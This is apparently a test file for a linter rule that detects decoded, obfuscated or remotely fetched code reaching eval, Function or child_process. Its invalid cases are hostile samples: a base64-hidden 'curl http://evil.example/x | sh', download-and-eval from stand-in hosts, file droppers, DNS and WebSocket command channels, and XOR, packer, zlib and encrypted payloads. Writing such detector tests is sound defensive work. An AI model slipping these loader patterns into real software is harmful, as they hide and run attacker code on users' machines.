import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import rule from '../../rules/exec-decoded-payload.js';
import { ruleTester } from '../rule-tester.js';
import { analyze } from '../../analyzer/engine.js';
import { resolvePolicy } from '../../policy/index.js';

ruleTester(rule, {
  valid: [
    // Escapes for characters that need them, and short escaped strings.
    "eval('\\u00e9\\u00e8\\u00ea\\u00eb'); require('child_process').exec('printf \"\\x1b[31m\"');",
    // Downloading to a file that is never run, and running a file that was not downloaded.
    "const fs = require('fs'), https = require('https');\nhttps.get('https://registry.npmjs.org/x', (res) => res.pipe(fs.createWriteStream('cache.json')));\nrequire('child_process').execSync('node build.js');",
    "const fs = require('fs');\nfs.writeFileSync('/tmp/x.js', 'module.exports = 1');\nrequire('/tmp/x.js');",
    // Decoding data for display, parsing or binary use is not running it.
    'const label = atob(encoded); console.log(label);',
    "el.textContent = Buffer.from(b64, 'base64').toString('utf8');",
    'const config = JSON.parse(atob(data));',
    "WebAssembly.instantiate(Buffer.from(wasmBase64, 'base64'), imports);",
    "function b64(s) { return Buffer.from(s, 'base64').toString(); }\nconsole.log(b64(x));",
    "const decode = (s) => atob(s);\nrender(decode(x));",
    // String.fromCharCode used for formatting.
    "eval('var x = 1' + String.fromCharCode(59));",
    "const line = 'a' + String.fromCharCode(9) + b;",
    "const nl = String.fromCharCode(10); new Function('a', 'b', 'return a + b' + nl);",
    // Plain sinks without a decoded or remote payload (no-eval and friends report those).
    'new Function("a", "b", "return a + b");',
    "setTimeout(() => console.log(atob('aGk=')), 10);",
    "exec('git status');",
    "require('./' + name);",
    "import('./locale/' + lang + '.js');",
    "eval(fs.readFileSync(require.resolve('lib/dist/lib.js'), 'utf8'));",
    "const vm = require('vm'); vm.runInThisContext(fs.readFileSync(__dirname + '/template.js', 'utf8'));",
    "const path = require('path'); const vm = require('vm'); vm.runInThisContext(fs.readFileSync(path.join(__dirname, 'lib', 'template.js'), 'utf8'));",
    // A home-made template engine compiles a template file into a function.
    "const fs = require('fs');\nfunction compile(tpl) { return new Function('data', 'return `' + tpl + '`'); }\nconst page = compile(fs.readFileSync('views/page.tpl', 'utf8'));",
    "const fs = require('fs');\nconst render = new Function('it', fs.readFileSync('./views/index.html', 'utf8'));",
    // A user's own method or parameter called eval.
    "const obj = { eval: (x) => x }; obj.eval(atob('aGk='));",
    'function f(eval) { return eval(atob(x)); }',
    // Network data that is only rendered or saved.
    'fetch(u).then((r) => r.json()).then(render);',
    "https.get(url, (res) => res.pipe(fs.createWriteStream('out.bin')));",
    "res.on('data', (d) => console.log(d));",
    // Emscripten-style glue: a helper converts memory bytes to a string for emscripten_run_script.
    'function UTF8ToString(ptr) { let s = ""; while (HEAP[ptr]) s += String.fromCharCode(HEAP[ptr++]); return s; }\nfunction _emscripten_run_script(ptr) { eval(UTF8ToString(ptr)); }',
    // A data: URL that is not encoded is no-dynamic-import's concern.
    "import('data:text/javascript,export default 1');",
    "new Worker('worker.js'); new Worker(new URL('./w.js', import.meta.url), { type: 'module' });",
    // Keys that are decoded but lead nowhere dangerous.
    "const k = atob('bG9n'); console[k]('hi');",
  ],
  invalid: [
    // Hidden without a decoder call: escaped printable characters, a character array.
    { code: "eval('\\x63\\x6f\\x6e\\x73\\x6f\\x6c\\x65.log(1)');", errors: [{ messageId: 'decodedPayload', column: 1, message: 'escape sequences' }] },
    { code: "require('child_process').exec(['w', 'h', 'o', 'a', 'm', 'i'].join(''));", errors: [{ messageId: 'decodedCommand', column: 1, message: 'character array' }] },
    // A XOR helper with a map callback; a string-table accessor that names the sink.
    {
      code: "const x = (s, k) => s.split('').map((c) => String.fromCharCode(c.charCodeAt(0) ^ k)).join('');\neval(x('.=*#abcdefgh', 75));",
      errors: [{ messageId: 'decodedPayload', line: 2, column: 1, message: 'XOR' }],
    },
    {
      code: "function x(s, k) {\n  const out = s.split('').map((c) => String.fromCharCode(c.charCodeAt(0) ^ k));\n  return out.join('');\n}\neval(x('.=*#abcdefgh', 75));",
      errors: [{ messageId: 'decodedInput', line: 5, column: 1 }],
    },
    { code: "const t = ['ZXZhbA=='];\nconst d = (i) => atob(t[i]);\nglobalThis[d(0)]('1');", errors: [{ messageId: 'decodedSink', line: 3, column: 1 }] },
    // Download, write, run: the dropper, whether the file is spawned, run by a shell or required.
    {
      code: "const s = await fetch('https://x.example/y').then((r) => r.text());\nrequire('fs').writeFileSync('/tmp/x.js', s);\nrequire('/tmp/x.js');",
      errors: [{ messageId: 'downloadedRun', line: 3, column: 1 }],
    },
    {
      code: "const https = require('https'), fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process');\nconst dest = path.join(os.tmpdir(), 'update');\nhttps.get('https://cdn.example.com/bin', (res) => {\n  const out = fs.createWriteStream(dest);\n  res.pipe(out);\n  out.on('finish', () => cp.execFile(dest));\n});",
      errors: [{ messageId: 'downloadedRun', line: 6, column: 26 }],
    },
    {
      code: "const https = require('https'), fs = require('fs'), cp = require('child_process');\nhttps.get('https://cdn.example.com/s.sh', (res) => res.pipe(fs.createWriteStream('/tmp/s.sh')).on('close', () => cp.exec('sh /tmp/s.sh')));",
      errors: [{ messageId: 'downloadedRun', line: 2, column: 114 }],
    },
    {
      name: 'XOR loop over a constant array',
      code: "const enc = [102, 107, 98, 117, 115, 47, 54, 46];\nlet out = '';\nfor (let i = 0; i < enc.length; i++) out += String.fromCharCode(enc[i] ^ 7);\neval(out);",
      errors: [{ messageId: 'decodedPayload', line: 4, column: 1, message: 'XOR' }],
    },
    {
      name: 'XOR loop with a block body and a local constant',
      code: "const enc = [102, 107, 98, 117, 115, 47, 54, 46];\nconst parts = [];\nfor (const c of enc) { const d = c ^ 7; parts.push(String.fromCharCode(d)); }\nnew Function(parts.join(''))();",
      errors: [{ messageId: 'decodedPayload', line: 4, column: 1, message: '"alert(1)"' }],
    },
    {
      name: 'XOR with a repeating key string',
      code: "const key = 'k3y';\nconst data = String.fromCharCode(10, 95, 28, 25, 71, 81, 90, 26);\nlet s = '';\nfor (let i = 0; i < data.length; i++) s += String.fromCharCode(data.charCodeAt(i) ^ key.charCodeAt(i % key.length));\nsetTimeout(s, 0);",
      errors: [{ messageId: 'decodedPayload', line: 5, column: 1, message: '"alert(1)"' }],
    },
    {
      code: "eval(atob('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoImlkIik='));",
      errors: [{ messageId: 'decodedPayload', line: 1, column: 1, message: 'require("child_process").exec("id")' }],
    },
    {
      code: "new Function(Buffer.from('YWxlcnQoMSk=', 'base64').toString('utf8'))();",
      errors: [{ messageId: 'decodedPayload', line: 1, column: 1, message: '`new Function`' }],
    },
    {
      code: 'const c = [97, 108, 101, 114, 116, 40, 49, 41];\neval(String.fromCharCode(...c));',
      errors: [{ messageId: 'decodedPayload', line: 2, column: 1, message: 'character codes' }],
    },
    {
      code: 'eval(String.fromCharCode.apply(null, [97, 108, 101, 114, 116, 40, 49, 41]));',
      errors: [{ messageId: 'decodedPayload', line: 1, column: 1 }],
    },
    {
      code: "eval(Buffer.from('616c657274283129', 'hex').toString());",
      errors: [{ messageId: 'decodedPayload', message: 'hex' }],
    },
    {
      code: "const vm = require('vm');\nvm.runInThisContext(')1(trela'.split('').reverse().join(''));",
      errors: [{ messageId: 'decodedPayload', line: 2, column: 1, message: 'reversal' }],
    },
    {
      name: 'character-code arithmetic',
      code: "const s = 'bmfsu)2*'.split('').map((c) => String.fromCharCode(c.charCodeAt(0) - 1)).join('');\nFunction(s)();",
      errors: [{ messageId: 'decodedPayload', line: 2, column: 1, message: 'alert(1)' }],
    },
    {
      code: "const s = [102, 107, 98, 117, 115, 47, 54, 46].map((c) => String.fromCharCode(c ^ 7)).join('');\neval(s);",
      errors: [{ messageId: 'decodedPayload', line: 2, message: 'XOR' }],
    },
    {
      code: "let o = '';\n[102, 107, 98, 117, 115, 47, 54, 46].forEach((c) => { o += String.fromCharCode(c ^ 7); });\neval(o);",
      errors: [{ messageId: 'decodedPayload', line: 3, column: 1 }],
    },
    {
      name: 'a payload assembled by appending',
      code: "let s = 'YWxl';\ns += 'cnQoMSk=';\neval(atob(s));",
      errors: [{ messageId: 'decodedPayload', line: 3, column: 1, message: 'alert(1)' }],
    },
    {
      code: "const p = [];\np.push('YWxl');\np.push('cnQoMSk=');\neval(atob(p.join('')));",
      errors: [{ messageId: 'decodedPayload', line: 4, column: 1 }],
    },
    {
      code: "setTimeout(decodeURIComponent('%61%6c%65%72%74%28%31%29'), 0);",
      errors: [{ messageId: 'decodedPayload', message: 'URI escapes' }],
    },
    {
      code: "eval.call(null, atob('YWxlcnQoMSk='));\nReflect.apply(eval, null, [atob('YWxlcnQoMSk=')]);",
      errors: [
        { messageId: 'decodedPayload', line: 1, column: 1 },
        { messageId: 'decodedPayload', line: 2, column: 1 },
      ],
    },
    {
      code: "const run = eval;\nrun?.(atob('YWxlcnQoMSk='));",
      errors: [{ messageId: 'decodedPayload', line: 2, column: 1 }],
    },
    {
      code: "(eval as any)(atob('YWxlcnQoMSk=') as string);",
      filename: 'payload.ts',
      errors: [{ messageId: 'decodedPayload', line: 1, column: 1 }],
    },
    {
      name: 'packer',
      code: "eval(function(p,a,c,k,e,d){e=function(c){return c};if(!''.replace(/^/,String)){while(c--){d[c]=k[c]||c}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('0(1)',2,2,'alert|document'.split('|'),0,{}));",
      errors: [{ messageId: 'packedPayload', line: 1, column: 1, message: 'alert(document)' }],
    },
    {
      name: 'download and run',
      code: "const https = require('https');\nhttps.get('https://evil.example/p.js', (res) => {\n  let data = '';\n  res.on('data', (chunk) => { data += chunk; });\n  res.on('end', () => { eval(data); });\n});",
      errors: [{ messageId: 'remotePayload', line: 5, column: 25, message: "https.get` of 'https://evil.example/p.js'" }],
    },
    {
      code: "async function main() {\n  const r = await fetch('https://x.example/payload');\n  const t = await r.text();\n  new Function(atob(t))();\n}",
      errors: [{ messageId: 'remotePayload', line: 4, column: 3, message: 'decoded with base64' }],
    },
    {
      code: "fetch('https://x.example/p').then((r) => r.text()).then(eval);",
      errors: [{ messageId: 'remotePayload', line: 1, column: 57 }],
    },
    {
      code: "const dns = require('dns');\ndns.resolveTxt('c2.example.com', (err, records) => { eval(records[0].join('')); });",
      errors: [{ messageId: 'remotePayload', line: 2, column: 54, message: 'dns.resolveTxt' }],
    },
    {
      code: "const ws = new WebSocket('wss://c2.example');\nws.onmessage = (event) => { Function(event.data)(); };",
      errors: [{ messageId: 'remotePayload', line: 2, column: 29 }],
    },
    {
      code: "const { exec } = require('child_process');\nexec(Buffer.from('Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==', 'base64').toString());",
      errors: [{ messageId: 'decodedCommand', line: 2, column: 1, message: 'curl http://evil.example/x | sh' }],
    },
    {
      code: "require('child_process').spawn('sh', ['-c', atob('Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==')]);",
      errors: [{ messageId: 'decodedCommand', line: 1, column: 1 }],
    },
    {
      code: "require(atob('Y2hpbGRfcHJvY2Vzcw==')).exec('id');",
      errors: [{ messageId: 'decodedModule', line: 1, column: 1, message: "'child_process'" }],
    },
    {
      code: "import('data:text/javascript;base64,YWxlcnQoMSk=');",
      errors: [{ messageId: 'dataUrlModule', line: 1, column: 1, message: 'alert(1)' }],
    },
    {
      code: "import x from 'data:text/javascript;base64,YWxlcnQoMSk=';",
      filename: 'x.mjs',
      errors: [{ messageId: 'dataUrlModule', line: 1, column: 15 }],
    },
    {
      code: "require('child_process')[atob('ZXhlYw==')]('id');",
      errors: [{ messageId: 'decodedSink', line: 1, column: 1, message: "'exec'" }],
    },
    {
      code: "const e = globalThis[atob('ZXZhbA==')];\ne('1 + 1');",
      errors: [{ messageId: 'decodedSink', line: 2, column: 1, message: "`eval` is reached through a name decoded with base64: 'eval'" }],
    },
    {
      code: "window[String.fromCharCode(101, 118, 97, 108)]('1');",
      errors: [{ messageId: 'decodedSink', line: 1, column: 1 }],
    },
    {
      code: "const m = new module.constructor();\nm._compile(atob('YWxlcnQoMSk='), 'x.js');",
      errors: [{ messageId: 'decodedPayload', line: 2, column: 1, message: 'Module._compile' }],
    },
    {
      code: "const { Worker } = require('worker_threads');\nnew Worker(atob('YWxlcnQoMSk='), { eval: true });",
      errors: [{ messageId: 'decodedPayload', line: 2, column: 1, message: 'Worker (eval: true)' }],
    },
    {
      name: 'a buffer turned into text by concatenation',
      code: "eval(Buffer.from('YWxlcnQoMSk=', 'base64') + '');",
      errors: [{ messageId: 'decodedPayload', line: 1, column: 1, message: '"alert(1)"' }],
    },
    {
      name: 'eval passed as a callback',
      code: "[atob('YWxlcnQoMSk=')].forEach(eval);\nPromise.resolve(atob('YWxlcnQoMSk=')).then(eval);",
      errors: [
        { messageId: 'decodedPayload', line: 1, column: 32, message: '"alert(1)"' },
        { messageId: 'decodedInput', line: 2, column: 44 },
      ],
    },
    {
      code: "(() => {}).constructor(atob('YWxlcnQoMSk='))();",
      errors: [{ messageId: 'decodedPayload', line: 1, column: 1 }],
    },
    {
      code: "eval([...')1(trela'].reverse().join(''));",
      errors: [{ messageId: 'decodedPayload', message: 'reversal' }],
    },
    {
      code: "eval(unescape('%u0061%u006c%u0065%u0072%u0074%u0028%u0031%u0029'));",
      errors: [{ messageId: 'decodedPayload', message: 'URI escapes' }],
    },
    {
      code: "const d = atob;\neval(d('YWxlcnQoMSk='));\neval(`${window.atob('YWxlcnQ=')}(1)`);",
      errors: [
        { messageId: 'decodedPayload', line: 2, column: 1 },
        { messageId: 'decodedPayload', line: 3, column: 1, message: '"alert(1)"' },
      ],
    },
    {
      code: "require('child_process').spawn('node', ['-e', atob('YWxlcnQoMSk=')]);",
      errors: [{ messageId: 'decodedCommand', line: 1, column: 1, message: '"-e alert(1)"' }],
    },
    {
      code: "require('child_process').execSync(Buffer.from([105, 100]).toString());",
      errors: [{ messageId: 'decodedCommand', message: 'byte arrays' }],
    },
    {
      code: "process.mainModule.require(atob('Y2hpbGRfcHJvY2Vzcw==')).exec('id');",
      errors: [{ messageId: 'decodedModule', line: 1, column: 1 }],
    },
    {
      code: "const axios = require('axios');\naxios.get(u).then((r) => eval(r.data));\nasync function f() { const { data } = await axios.get(u); new Function(data)(); }",
      errors: [
        { messageId: 'remotePayload', line: 2, column: 26, message: 'axios.get' },
        { messageId: 'remotePayload', line: 3, column: 59 },
      ],
    },
    {
      code: 'const xhr = new XMLHttpRequest();\nxhr.onload = () => eval(xhr.responseText);',
      errors: [{ messageId: 'remotePayload', line: 2, column: 20, message: 'XMLHttpRequest' }],
    },
    {
      name: 'the deprecated Buffer constructor and TextDecoder',
      code: "eval(new Buffer('YWxlcnQoMSk=', 'base64').toString());\neval(new TextDecoder().decode(new Uint8Array([97, 108, 101, 114, 116, 40, 49, 41])));",
      errors: [
        { messageId: 'decodedPayload', line: 1, column: 1, message: 'base64' },
        { messageId: 'decodedPayload', line: 2, column: 1, message: 'byte arrays reaches `eval`: "alert(1)"' },
      ],
    },
    {
      name: 'a worker made from a decoded blob, and importScripts of an encoded data: URL',
      code: "new Worker(URL.createObjectURL(new Blob([atob(payload)])));\nimportScripts('data:text/javascript;base64,YWxlcnQoMSk=');",
      errors: [
        { messageId: 'decodedInput', line: 1, column: 1, message: '`new Worker`' },
        { messageId: 'dataUrlModule', line: 2, column: 1, message: 'alert(1)' },
      ],
    },
    {
      name: 'decode-and-run helper with an unknown input',
      code: 'function run(s) {\n  eval(atob(s));\n}',
      errors: [{ messageId: 'decodedInput', line: 2, column: 3, message: 'base64' }],
    },
    {
      name: 'zlib-compressed payload',
      code: "const zlib = require('zlib');\neval(zlib.inflateSync(Buffer.from('eJwrSi0szSxK1VBKzsjMSYkvKMpPTi0uVtLUS61ITdZQykxR0gQA618MKg==', 'base64')).toString());",
      errors: [{ messageId: 'decodedInput', line: 2, column: 1, message: 'require("child_process").exec("id")' }],
    },
    {
      name: 'decrypted payload',
      code: "const crypto = require('crypto');\nconst d = crypto.createDecipheriv('aes-256-cbc', key, iv);\nconst code = d.update(blob, 'base64', 'utf8') + d.final('utf8');\neval(code);",
      errors: [{ messageId: 'decodedInput', line: 4, column: 1, message: 'decryption' }],
    },
    {
      code: "const fs = require('fs');\nconst os = require('os');\nnew Function(fs.readFileSync(os.homedir() + '/.config/.sys', 'utf8'))();\nrequire('vm').runInThisContext(fs.readFileSync('./payload.bin').toString());",
      errors: [
        { messageId: 'filePayload', line: 3, column: 1 },
        { messageId: 'filePayload', line: 4, column: 1, message: 'payload.bin' },
      ],
    },
    {
      code: "const fs = require('fs');\neval(fs.readFileSync('/tmp/.cache/update.dat', 'utf8'));",
      errors: [{ messageId: 'filePayload', line: 2, column: 1, message: '/tmp/.cache/update.dat' }],
    },
    {
      // A path built with path.join is followed as far as it folds (the directory stays unknown).
      code: "const fs = require('fs');\nconst path = require('path');\neval(fs.readFileSync(path.join(__dirname, '.cache', 'update.dat'), 'utf8'));",
      errors: [{ messageId: 'filePayload', line: 3, column: 1, message: '…/.cache/update.dat' }],
    },
  ],
});

describe('exec-decoded-payload severity', () => {
  for (const profile of ['strict', 'audit', 'recommended'] as const) {
    it(`is an error in the ${profile} profile`, () => {
      const report = analyze("eval(atob('YWxlcnQoMSk='));", { policy: resolvePolicy({ profile }), rules: [rule] });
      const mine = report.findings.filter((f) => f.ruleId === rule.id);
      assert.deepEqual(mine.map((f) => f.severity), ['error']);
    });
  }
});
